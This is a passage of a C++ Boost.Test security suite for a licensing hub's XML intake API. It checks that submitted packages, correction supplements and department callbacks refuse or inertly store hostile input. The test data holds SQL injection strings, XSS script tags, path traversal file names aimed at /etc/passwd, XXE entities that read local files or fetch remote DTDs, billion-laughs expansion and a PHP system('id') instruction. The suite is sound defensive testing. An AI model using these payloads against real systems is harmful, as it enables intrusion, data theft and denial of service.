    BOOST_TEST(json(fetched.body)->getValue<std::string>("applicantReference") == "x' OR '1'='1");
    BOOST_TEST(sqlValue("SELECT HEX(original_xml) FROM packages WHERE id = '" + id + "'") == hexOf(body));
    // The key is the key: a retry replays, the tables are all there.
    auto replay = submit(body, key);
    BOOST_TEST(replay.status == 201, describe(replay));
    BOOST_TEST(replay.header("idempotent-replayed") == "true");
    BOOST_TEST(std::stol(sqlValue("SELECT COUNT(*) FROM permits WHERE package_id = '" + id + "'")) == 12);
    auto list = getAs(rig().token, "/api/v1/applications?limit=100");
    BOOST_TEST(list.status == 200, describe(list));
    BOOST_TEST(list.body.find(id) != std::string::npos);
    // In the path: just an unknown package.
    auto injected = getAs(rig().token, "/api/v1/applications/PKG-'%20OR%20'1'='1");
    BOOST_TEST(injected.status == 404, describe(injected));
}

BOOST_AUTO_TEST_CASE(package_markup_in_text_is_escaped_in_every_representation) {
    const std::string id = expectPackageStoredVerbatim(packageWithName("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; Co"));
    auto asJson = getAs(rig().token, "/api/v1/applications/" + id);
    BOOST_TEST(json(asJson.body)->getValue<std::string>("proposedName") == "<script>alert(\"x\")</script> & Co");
    auto asXml = getAs(rig().token, "/api/v1/applications/" + id, {{"Accept", "application/xml"}});
    BOOST_TEST(asXml.status == 200, describe(asXml));
    BOOST_TEST(asXml.body.find("<script>") == std::string::npos, asXml.body.substr(0, 800));
    BOOST_TEST(asXml.body.find("&lt;script&gt;") != std::string::npos, asXml.body.substr(0, 800));
}

BOOST_AUTO_TEST_CASE(package_path_traversal_file_names_are_refused) {
    for (const std::string name : {"../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "C:\\boot.ini",
                                   "..", "a/b.pdf", "a..pdf", "report\x7F.pdf"})
        BOOST_TEST_CONTEXT(name) {
            expectPackageRefused(replacedOnce(fullPackage(), kFirstFileName, "<FileName>" + name + "</FileName>"), 422,
                                 "SCHEMA_VIOLATION");
        }
    // NUL and other C0 controls cannot be written in XML 1.0 at all.
    expectPackageRefused(replacedOnce(fullPackage(), kFirstFileName, "<FileName>a&#0;.pdf</FileName>"), 400,
                         "XML_MALFORMED");
    expectPackageRefused(replacedOnce(fullPackage(), kFirstFileName, "<FileName>a&#1;.pdf</FileName>"), 400,
                         "XML_MALFORMED");
    expectPackageRefused(replacedOnce(fullPackage(), kFirstFileName, std::string("<FileName>a\0.pdf</FileName>", 24)),
                         400, "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(package_odd_but_bare_file_names_are_opaque) {
    for (const std::string name : {"%2e%2e%2fetc%2fpasswd", "\xE2\x80\xA5\xEF\xBC\x8F" "etc\xEF\xBC\x8Fpasswd"})
        BOOST_TEST_CONTEXT(name) {
            expectPackageStoredVerbatim(
                replacedOnce(fullPackage(), kFirstFileName, "<FileName>" + name + "</FileName>"));
            BOOST_TEST(!fileNamedAnywhere(hubUnderTest().workDirectory(), name));
        }
}

BOOST_AUTO_TEST_CASE(package_huge_attachment_within_the_limit_is_stored) {
    // 7.5 MiB decoded: 10.5 MB of base64 in one text node, past libxml2's
    // 10,000,000-byte limit on text it has to piece together, which an
    // in-memory parse of one run of characters does not reach.
    const std::string body = packageWithAttachment(deterministicBytes(15 * 512 * 1024));
    BOOST_TEST_REQUIRE(body.size() > 10000000u);
    expectPackageStoredVerbatim(body);
}

// The sample with its first attachment's base64 cut into lines of 76 ended by `lineEnd`.
std::string packageWithWrappedAttachment(const std::string& content, const std::string& lineEnd) {
    const std::string encoded = base64Of(content);
    std::string wrapped;
    for (std::size_t i = 0; i < encoded.size(); i += 76) wrapped += encoded.substr(i, 76) + lineEnd;
    std::string xml = packageWithAttachment(content);
    const auto contentAt = xml.find("<Content>");
    return xml.replace(contentAt + 9, encoded.size(), wrapped);
}

BOOST_AUTO_TEST_CASE(package_wrapped_huge_attachment_is_stored_whatever_the_line_ends) {
    // Past 10,000,000 bytes of text: libxml2 alone refused the CRLF-wrapped
    // one ("huge text node") and accepted the LF-wrapped one.
    const std::string content = deterministicBytes(15 * 512 * 1024);
    // (LF-wrapped text is one run of characters, like the unwrapped case above.)
    for (const std::string lineEnd : {"\r\n", "\r"})
        BOOST_TEST_CONTEXT(hexOf(lineEnd)) { expectPackageStoredVerbatim(packageWithWrappedAttachment(content, lineEnd)); }
}

BOOST_AUTO_TEST_CASE(package_text_pieced_past_the_parser_limit_is_refused_plainly) {
    // Text cut by character references is assembled from pieces, and libxml2
    // refuses a node assembled past 10,000,000 bytes.
    auto response = submit(packageWithWrappedAttachment(deterministicBytes(15 * 512 * 1024), "&#10;"));
    BOOST_TEST(response.status == 400, describe(response));
    BOOST_TEST(firstErrorCode(response) == "XML_MALFORMED", describe(response));
    BOOST_TEST(response.body.find("longer than the parser's limit of 10,000,000 bytes") != std::string::npos,
               describe(response));
}

BOOST_AUTO_TEST_CASE(package_attachment_past_the_package_limit_is_413) {
    const long before = storedPackages();
    auto response = postWatching("/api/v1/applications", applicantHeaders(),
                                 packageWithAttachment(deterministicBytes(13 * 1024 * 1024)), Framing::Exact);
    BOOST_TEST(response.status == 413, describe(response));
    BOOST_TEST(allErrorsAre(response, "PACKAGE_TOO_LARGE"), describe(response));
    BOOST_TEST(storedPackages() == before);
}

BOOST_AUTO_TEST_CASE(package_processing_instructions_are_stored_inert) {
    ConnectionTrap trap;
    std::string body = replacedOnce(fullPackage(), kDeclaration + "\n",
                                    kDeclaration + "\n<?xml-stylesheet type=\"text/xsl\" href=\"" +
                                        trap.url("/evil.xsl") + "\"?>\n");
    body = replacedOnce(body, kProposedName, kProposedName + "<?php system('id'); ?>");
    expectPackageStoredVerbatim(body);
    BOOST_TEST(!trap.connected(), "the hub fetched a stylesheet named by a processing instruction");
    // A second XML declaration is no processing instruction.
    expectPackageRefused(replacedOnce(fullPackage(), kProposedName, kProposedName + kDeclaration), 400,
                         "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(package_cdata_tricks) {
    // Markup inside CDATA is text, kept as such.
    const std::string markup = expectPackageStoredVerbatim(packageWithName("<![CDATA[</ProposedName><Evil/>]]>"));
    BOOST_TEST(json(getAs(rig().token, "/api/v1/applications/" + markup).body)->getValue<std::string>("proposedName") ==
               "</ProposedName><Evil/>");
    // "]]>" made of two sections is text too.
    const std::string split = expectPackageStoredVerbatim(packageWithName("<![CDATA[A]]]]><![CDATA[>B]]>"));
    BOOST_TEST(json(getAs(rig().token, "/api/v1/applications/" + split).body)->getValue<std::string>("proposedName") ==
               "A]]>B");
    // "]]>" in plain text, and a section never closed, are not well-formed.
    expectPackageRefused(packageWithName("<![CDATA[A]]>]]>"), 400, "XML_MALFORMED");
    expectPackageRefused(packageWithName("<![CDATA[A"), 400, "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(package_ten_megabyte_attribute_is_refused) {
    expectPackageRefused(replacedOnce(fullPackage(), R"(<RegisteredCapital currency="CNY">)",
                                      R"(<RegisteredCapital currency="CNY" note=")" +
                                          std::string(10 * 1024 * 1024, 'A') + "\">"),
                         400, "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(package_many_attributes_are_refused_quickly) {
    // libxml2 checks attribute and namespace uniqueness pairwise: 200,000 of
    // them (2 MB) would keep a thread busy for minutes.
    for (const std::string prefix : {"a", "xmlns:p"})
        BOOST_TEST_CONTEXT(prefix) {
            auto response = submit(replacedOnce(fullPackage(), "<Company>", "<Company" + manyAttributes(200000, prefix) + ">"));
            BOOST_TEST(response.status == 400, describe(response));
            BOOST_TEST(allErrorsAre(response, "XML_MALFORMED"), describe(response));
            BOOST_TEST(response.body.find("more than 256 attributes") != std::string::npos, describe(response));
        }
    // 256 are parsed (and then refused by the schema, which knows none of them).
    expectPackageRefused(replacedOnce(fullPackage(), "<Company>", "<Company" + manyAttributes(256, "a") + ">"), 422,
                         "SCHEMA_VIOLATION");
}

BOOST_AUTO_TEST_CASE(package_nul_bytes_are_refused) {
    expectPackageRefused(packageWithName(std::string("A\0B", 3)), 400, "XML_MALFORMED");
    expectPackageRefused(packageWithName("A&#0;B"), 400, "XML_MALFORMED");
    expectPackageRefused(std::string(1, '\0') + fullPackage(), 400, "XML_ENCODING");
    expectPackageRefused(fullPackage() + std::string(1, '\0'), 400, "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(package_byte_order_marks) {
    // The UTF-8 mark is allowed.
    expectPackageStoredVerbatim("\xEF\xBB\xBF" + fullPackage());
    // A UTF-8 mark inside a field is a character like any other.
    expectPackageStoredVerbatim(packageWithName("\xEF\xBB\xBF" "青岛海联航运有限公司"));
    for (const std::string& mark : {std::string("\xFF\xFE"), std::string("\xFE\xFF"), std::string("\xFF\xFE\0\0", 4),
                                   std::string("\0\0\xFE\xFF", 4)})
        BOOST_TEST_CONTEXT(hexOf(mark)) { expectPackageRefused(mark + fullPackage(), 400, "XML_ENCODING"); }
    // A real UTF-16 document with its mark.
    std::string utf16 = "\xFF\xFE";
    for (char c : std::string(R"(<?xml version="1.0" encoding="UTF-16"?><ApplicationPackage/>)")) {
        utf16 += c;
        utf16 += '\0';
    }
    expectPackageRefused(utf16, 400, "XML_ENCODING");
    // Two UTF-8 marks: the second is a character before the declaration.
    expectPackageRefused("\xEF\xBB\xBF\xEF\xBB\xBF" + fullPackage(), 400, "XML_MALFORMED");
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_FIXTURE_TEST_SUITE(correction_supplement, Survives)

BOOST_AUTO_TEST_CASE(supplement_baseline_reaches_the_permit_check) {
    auto response = postSupplement(supplement());
    BOOST_TEST(response.status == 409, describe(response));
    BOOST_TEST(firstErrorCode(response) == "CORRECTION_NOT_REQUESTED", describe(response));
}

BOOST_AUTO_TEST_CASE(supplement_xxe_and_entity_expansion_are_refused) {
    ConnectionTrap trap;
    const std::string withLocal =
        kDeclaration + "\n<!DOCTYPE CorrectionSupplement [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n" +
        supplement("&xxe;").substr(kDeclaration.size() + 1);
    auto local = postSupplement(withLocal);
    BOOST_TEST(local.status == 400, describe(local));
    BOOST_TEST(firstErrorCode(local) == "XML_DTD_FORBIDDEN", describe(local));
    expectNoFileContent(local);
    expectSupplementRefused(kDeclaration + "\n<!DOCTYPE CorrectionSupplement [<!ENTITY xxe SYSTEM \"" +
                                trap.url("/xxe") + "\">]>\n" + supplement("&xxe;").substr(kDeclaration.size() + 1),
                            400, "XML_DTD_FORBIDDEN");
    expectSupplementRefused(kDeclaration + "\n<!DOCTYPE CorrectionSupplement [<!ENTITY % p SYSTEM \"" +
                                trap.url("/p.dtd") + "\"> %p;]>\n" + supplement().substr(kDeclaration.size() + 1),
                            400, "XML_DTD_FORBIDDEN");
    expectSupplementRefused(kDeclaration + "\n" + kBillionLaughs + "\n" +
                                supplement("&lol9;").substr(kDeclaration.size() + 1),
                            400, "XML_DTD_FORBIDDEN");
    expectSupplementRefused(kDeclaration + "\n" + quadraticBlowupDoctype() + "\n" +
                                supplement(quadraticReferences()).substr(kDeclaration.size() + 1),
                            400, "XML_DTD_FORBIDDEN");
    BOOST_TEST(!trap.connected(), "the hub fetched an entity of a supplement");
}

BOOST_AUTO_TEST_CASE(supplement_deep_nesting_is_refused) {
    const std::string open = R"(<CorrectionSupplement xmlns="urn:licensing-hub:package:v1">)";
    expectSupplementRefused(nested(open, "</CorrectionSupplement>", 100000), 400, "XML_TOO_DEEP");
}

BOOST_AUTO_TEST_CASE(supplement_oversize_bodies_are_413) {
    const std::string path = "/api/v1/applications/" + basePackageId() + "/permits/P12/corrections";
    const std::map<std::string, std::string> headers{{"Authorization", "Bearer " + rig().token},
                                                     {"Content-Type", "application/xml"}};
    auto declared = postWatching(path, headers, kDeclaration, Framing::DeclaredHuge);
    BOOST_TEST(declared.status == 413, describe(declared));
    BOOST_TEST(firstErrorCode(declared) == "SUPPLEMENT_TOO_LARGE", describe(declared));
    auto endless = postWatching(path, headers, kDeclaration, Framing::Endless);
    BOOST_TEST(endless.status == 413, describe(endless));
    BOOST_TEST(firstErrorCode(endless) == "SUPPLEMENT_TOO_LARGE", describe(endless));
}

BOOST_AUTO_TEST_CASE(supplement_bad_encodings_are_refused) {
    expectSupplementRefused(supplement("Bad \xC3\x28 byte"), 400, "XML_ENCODING");
    expectSupplementRefused(replacedOnce(supplement(), kDeclaration, R"(<?xml version="1.0" encoding="UTF-16"?>)"),
                            400, "XML_ENCODING");
    expectSupplementRefused("\xFE\xFF" + supplement(), 400, "XML_ENCODING");
    expectSupplementRefused(supplement(std::string("A\0B", 3)), 400, "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(supplement_duplicates_and_markup_tricks_are_refused) {
    expectSupplementRefused(replacedOnce(supplement(), "<Permit>P12</Permit>", "<Permit>P12</Permit><Permit>P12</Permit>"),
                            422, "SCHEMA_VIOLATION");
    expectSupplementRefused(replacedOnce(supplement(), R"(item="1")", R"(item="1" item="2")"), 400, "XML_MALFORMED");
    expectSupplementRefused(supplement("<![CDATA[A]]>]]>"), 400, "XML_MALFORMED");
    expectSupplementRefused(replacedOnce(supplement(), R"(item="1")", R"(item="1" note=")" + std::string(10 * 1024 * 1024, 'A') + "\""),
                            400, "XML_MALFORMED");
    expectSupplementRefused(supplement(std::string(10 * 1024 * 1024, 'A')), 422, "SCHEMA_VIOLATION");
    expectSupplementRefused(replacedOnce(supplement(), "<Answer ", "<Answer" + manyAttributes(200000, "a") + " "), 400,
                            "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(supplement_path_traversal_file_names_are_refused) {
    for (const std::string name : {"../../etc/passwd", "/etc/passwd", "..\\..\\win.ini", ".hidden", "a/b.pdf"})
        BOOST_TEST_CONTEXT(name) { expectSupplementRefused(supplement("Attached.", name), 422, "SCHEMA_VIOLATION"); }
    expectSupplementRefused(supplement("Attached.", "a&#0;.pdf"), 400, "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(supplement_huge_attachment_is_checked_before_the_permit) {
    const std::string content = base64Of(deterministicBytes(5 * 1024 * 1024));
    auto within = postSupplement(replacedOnce(supplement(), ">JVBERi0xLjcK<", ">" + content + "<"));
    BOOST_TEST(within.status == 409, describe(within));
    BOOST_TEST(firstErrorCode(within) == "CORRECTION_NOT_REQUESTED", describe(within));
    const std::string past = base64Of(deterministicBytes(13 * 1024 * 1024));
    auto refused = postWatching("/api/v1/applications/" + basePackageId() + "/permits/P12/corrections",
                                {{"Authorization", "Bearer " + rig().token}, {"Content-Type", "application/xml"}},
                                replacedOnce(supplement(), ">JVBERi0xLjcK<", ">" + past + "<"), Framing::Exact);
    BOOST_TEST(refused.status == 413, describe(refused));
    BOOST_TEST(allErrorsAre(refused, "SUPPLEMENT_TOO_LARGE"), describe(refused));
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_FIXTURE_TEST_SUITE(department_callback, Survives)

BOOST_AUTO_TEST_CASE(callback_baseline_reaches_the_receipt_lookup) {
    auto response = postCallback(ccsMessage("CCS-NOBODY-0001"));
    BOOST_TEST(response.status == 404, describe(response));
    BOOST_TEST(firstErrorCode(response) == "UNKNOWN_PERMIT", describe(response));
}

BOOST_AUTO_TEST_CASE(callback_xxe_and_entity_expansion_are_refused) {
    ConnectionTrap trap;
    const std::string message = ccsMessage("CCS-NOBODY-0001").substr(kDeclaration.size() + 1);
    const std::string local = kDeclaration + "\n<!DOCTYPE SurveyResult [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n" +
                              replacedOnce(message, "<Status>ACCEPTED</Status>", "<Status>&xxe;</Status>");
    auto response = postCallback(local);
    BOOST_TEST(response.status == 400, describe(response));
    BOOST_TEST(firstErrorCode(response) == "XML_DTD_FORBIDDEN", describe(response));
    expectNoFileContent(response);
    expectCallbackMalformed(kDeclaration + "\n<!DOCTYPE SurveyResult [<!ENTITY xxe SYSTEM \"" + trap.url("/xxe") +
                                "\">]>\n" + message,
                            "XML_DTD_FORBIDDEN");
    expectCallbackMalformed(kDeclaration + "\n<!DOCTYPE SurveyResult SYSTEM \"" + trap.url("/x.dtd") + "\">\n" + message,
                            "XML_DTD_FORBIDDEN");
    expectCallbackMalformed(kDeclaration + "\n<!DOCTYPE SurveyResult [<!ENTITY % p SYSTEM \"" + trap.url("/p.dtd") +
                                "\"> %p;]>\n" + message,
                            "XML_DTD_FORBIDDEN");
    expectCallbackMalformed(kDeclaration + "\n" + kBillionLaughs + "\n" +
                                replacedOnce(message, "<Status>ACCEPTED</Status>", "<Status>&lol9;</Status>"),
                            "XML_DTD_FORBIDDEN");
    expectCallbackMalformed(kDeclaration + "\n" + quadraticBlowupDoctype() + "\n" +
                                replacedOnce(message, "<Status>ACCEPTED</Status>",
                                             "<Status>" + quadraticReferences() + "</Status>"),
                            "XML_DTD_FORBIDDEN");
    BOOST_TEST(!trap.connected(), "the hub fetched an entity of a callback");
}

BOOST_AUTO_TEST_CASE(callback_deep_nesting_is_refused) {
    expectCallbackMalformed(nested(R"(<SurveyResult xmlns="urn:licensing-hub:dept:ccs:v1">)", "</SurveyResult>", 100000),
                            "XML_TOO_DEEP");
}

BOOST_AUTO_TEST_CASE(callback_oversize_bodies_are_refused) {
    // Past maxPackageBytes: 413 from the size alone, declared or streamed.
    auto declared = postWatching("/api/v1/departments/CCS/callbacks", signedHeaders("x"), kDeclaration,
                                 Framing::DeclaredHuge);
    BOOST_TEST(declared.status == 413, describe(declared));
    auto endless = postWatching("/api/v1/departments/CCS/callbacks", signedHeaders("x"), kDeclaration, Framing::Endless);
    BOOST_TEST(endless.status == 413, describe(endless));
    // Within maxPackageBytes but past the 8 MiB a department message may have.
    const std::string big = replacedOnce(ccsMessage("CCS-NOBODY-0001"), "</SurveyResult>",
                                         "<!-- " + std::string(9 * 1024 * 1024, 'x') + " -->" +
                                             "</SurveyResult>");
    auto response = postCallback(big);
    BOOST_TEST(response.status == 400, describe(response));
    BOOST_TEST(lastRefusedCallbackCode() == "MALFORMED");
}

BOOST_AUTO_TEST_CASE(callback_bad_encodings_are_refused) {
    expectCallbackMalformed(ccsMessage("CCS-NOBODY-0001", "ACC\xC3\x28PTED"), "XML_ENCODING");
    expectCallbackMalformed(replacedOnce(ccsMessage("CCS-NOBODY-0001"), kDeclaration,
                                         R"(<?xml version="1.0" encoding="UTF-16"?>)"),
                            "XML_ENCODING");
    expectCallbackMalformed("\xFF\xFE" + ccsMessage("CCS-NOBODY-0001"), "XML_ENCODING");
    expectCallbackMalformed(ccsMessage("CCS-NOBODY-0001", std::string("ACC\0EPTED", 9)), "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(callback_duplicates_and_sql_in_identifiers_are_schema_invalid) {
    auto duplicated = postCallback(replacedOnce(ccsMessage("CCS-NOBODY-0001"), "<Status>ACCEPTED</Status>",
                                                "<Status>ACCEPTED</Status><Status>COMPLETED</Status>"));
    BOOST_TEST(duplicated.status == 422, describe(duplicated));
    BOOST_TEST(allErrorsAre(duplicated, "SCHEMA_VIOLATION"), describe(duplicated));
    BOOST_TEST(lastRefusedCallbackCode() == "SCHEMA_INVALID");
    auto injected = postCallback(ccsMessage("CCS' OR '1'='1", "ACCEPTED", {}, "x'; DROP TABLE inbound_messages; --"));
    BOOST_TEST(injected.status == 422, describe(injected));
    BOOST_TEST(allErrorsAre(injected, "SCHEMA_VIOLATION"), describe(injected));
    BOOST_TEST(lastRefusedCallbackCode() == "SCHEMA_INVALID");
    expectCallbackMalformed(replacedOnce(ccsMessage("CCS-NOBODY-0001"), "<SurveyResult ",
                                         "<SurveyResult" + manyAttributes(200000, "a") + " "),
                            "XML_MALFORMED");
}

// The texts a department and an applicant write reach the store and come back
// exactly: a correction notice whose reason looks like SQL, answered by a
// supplement whose answer does too.
BOOST_AUTO_TEST_CASE(sql_looking_reason_and_answer_are_stored_verbatim) {
    auto submitted = submit(fullPackage());
    BOOST_TEST_REQUIRE(submitted.status == 201, describe(submitted));
    const std::string id = json(submitted.body)->getValue<std::string>("id");
    // Dispatch is off in this hub: stand in for CCS having acknowledged P12.
    const std::string receipt = "CCS-HOSTILE-" + std::to_string(nowMs() % 100000000);
    hubUnderTest().sql("UPDATE permits SET state = 'SUBMITTED', receipt_number = '" + receipt +
                       "' WHERE package_id = '" + id + "' AND permit = 'P12'");
    const std::string reason = "Robert'); DROP TABLE permits; --";
    auto notice = postCallback(ccsMessage(receipt, "DEFICIENCIES", "  <Reason>" + reason + "</Reason>\n"));
    BOOST_TEST_REQUIRE(notice.status == 200, describe(notice));
    BOOST_TEST(json(notice.body)->getValue<std::string>("state") == "CORRECTION_REQUIRED");
    auto events = getAs(rig().token, "/api/v1/applications/" + id + "/events");
    BOOST_TEST(events.body.find("DROP TABLE permits; --") != std::string::npos, events.body.substr(0, 2000));

    const std::string body = supplement(kSqlText + " &lt;/Answer&gt;", "x'); DROP TABLE outbox; --.pdf");
    auto answered = postSupplement(body, id);
    BOOST_TEST_REQUIRE(answered.status == 202, describe(answered));
    BOOST_TEST(sqlValue("SELECT HEX(payload) FROM outbox WHERE package_id = '" + id + "' AND kind = 'CORRECTION'") ==
               hexOf(body));
    BOOST_TEST(std::stol(sqlValue("SELECT COUNT(*) FROM permits WHERE package_id = '" + id + "'")) == 12);
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_FIXTURE_TEST_SUITE(afterwards, Survives)

BOOST_AUTO_TEST_CASE(the_same_process_still_accepts_a_genuine_package) {
    auto response = submit(fullPackage());
    BOOST_TEST(response.status == 201, describe(response));
    auto ready = hubUnderTest().request("GET", "/readyz");
    BOOST_TEST(ready.status == 200, describe(ready));
}

// Every attack was answered with a 4xx or a success: no request of the run
// ended in a server error.
BOOST_AUTO_TEST_CASE(no_attack_caused_a_server_error) {
    auto metrics = hubUnderTest().request("GET", "/metrics");
    BOOST_TEST_REQUIRE(metrics.status == 200, describe(metrics));
    std::istringstream lines(metrics.body);
    std::string line;
    std::size_t requestLines = 0;
    while (std::getline(lines, line)) {
        if (line.rfind("hub_http_requests_total{", 0) != 0) continue;
        ++requestLines;
        BOOST_TEST(line.find("status=\"5") == std::string::npos, line);
    }
    BOOST_TEST(requestLines > 10u);
    BOOST_TEST(metrics.body.find(R"(status="413")") != std::string::npos);
}

BOOST_AUTO_TEST_SUITE_END()
